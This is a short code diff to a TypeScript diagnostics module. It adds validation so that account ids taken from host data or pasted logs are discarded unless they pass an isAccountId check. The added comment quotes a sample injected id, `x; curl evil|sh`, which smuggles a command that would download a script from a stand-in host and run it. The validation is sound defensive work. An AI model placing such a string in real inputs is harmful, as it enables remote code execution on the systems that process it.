@@ -14,6 +14,7 @@
  * Time: "now" is the host's collectedAt unless given. Drops followed by a reconnect count as
  * transient-reconnect for TRANSIENT_WINDOW_MS (30 min: the idle watchdog's own period), then healthy.
  */
+import { isAccountId } from '../probe/names.js';
 import { DEFAULT_ACCOUNT, type Evidence } from './evidence.js';
 import { eventText, parseLog, type LogEvent } from './log-parse.js';
 import { RULES, ruleFor, type Remedy, type SignContext } from './rules.js';
@@ -268,6 +269,8 @@ function accountsOf(evidence: Evidence, summary: ChannelsStatusSummary | null, e
     ...(summary?.accounts.map((a) => a.account) ?? []),
     ...events.flatMap((e) => (e.account ? [e.account] : [])),
   ]);
+  // An id a host or a pasted log makes up (`x; curl evil|sh`, escape sequences) is no account of ours.
+  for (const id of ids) if (!isAccountId(id)) ids.delete(id);
   if (ids.size === 0) ids.add(DEFAULT_ACCOUNT);
   return [...ids].sort((a, b) => (a === DEFAULT_ACCOUNT ? -1 : b === DEFAULT_ACCOUNT ? 1 : a.localeCompare(b)));
 }
